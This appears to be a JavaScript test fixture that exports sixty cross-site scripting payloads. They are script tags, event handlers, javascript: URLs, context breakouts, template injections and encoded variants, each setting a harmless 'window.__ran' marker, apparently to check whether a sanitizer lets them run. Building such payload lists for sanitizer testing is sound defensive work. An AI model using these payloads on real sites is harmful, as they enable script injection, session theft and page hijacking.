const script = 'window.__ran=1';

const elements = [
  `<script>${script}</script>`,
  `<ScRiPt>${script}</sCrIpT>`,
  `<script src=data:text/javascript,${script}></script>`,
  `<img src=x onerror=${script}>`,
  `<img src=x onerror="${script}">`,
  `<img/src='x'/onerror=${script}//`,
  `<svg onload=${script}>`,
  `<svg><script>${script}</script></svg>`,
  `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  `<svg><set onbegin=${script} attributeName=x>`,
  `<body onload=${script}>`,
  `<iframe src="javascript:${script}"></iframe>`,
  `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
  `<object data="javascript:${script}"></object>`,
  `<embed src="javascript:${script}">`,
  `<a href="javascript:${script}">x</a>`,
  `<a href="jav&#x09;ascript:${script}">x</a>`,
  `<form action="javascript:${script}"><button>x</button></form>`,
  `<button formaction="javascript:${script}" autofocus>x</button>`,
  `<input autofocus onfocus=${script}>`,
  `<select autofocus onfocus=${script}>`,
  `<textarea autofocus onfocus=${script}>`,
  `<details open ontoggle=${script}>`,
  `<video><source onerror=${script}></video>`,
  `<audio src=x onerror=${script}>`,
  `<marquee onstart=${script}>`,
  `<style>@import 'javascript:${script}';</style>`,
  `<link rel=stylesheet href="javascript:${script}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  `<base href="javascript:${script}//">`,
  `<math><mtext><img src=x onerror=${script}></mtext></math>`,
  `<template><img src=x onerror=${script}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  `<table background="javascript:${script}">`,
  `<div style="background:url(javascript:${script})">`,
  `<div style="width:expression(${script})">`,
  `<div onpointerrawupdate=${script}>x</div>`,
  `<xss onanimationstart=${script} style="animation:x">`,
];

const contexts = ['">', "'>", '`>', '-->', '</title>', '</textarea>', '</script>', ']]>'];

const texts = [
  `javascript:${script}`,
  `data:text/html,<script>${script}</script>`,
  `" onmouseover="${script}`,
  `' onfocus='${script}' autofocus='`,
  `{{constructor.constructor('${script}')()}}`,
  `\${${script}}`,
  `#{${script}}`,
  `<%= ${script} %>`,
  `&lt;script&gt;${script}&lt;/script&gt;`,
  `\u003cscript\u003e${script}\u003c/script\u003e`,
  `＜script＞${script}＜/script＞`,
  `<scr<script>ipt>${script}</scr</script>ipt>`,
  `<<script>${script}//<</script>`,
  `%3Cscript%3E${script}%3C/script%3E`,
];

/** Sixty texts that run where a page takes them for more than text; they set `window.__ran`. */
export const payloads = [
  ...elements,
  ...contexts.map((end) => `${end}<img src=x onerror=${script}>`),
  ...texts,
];
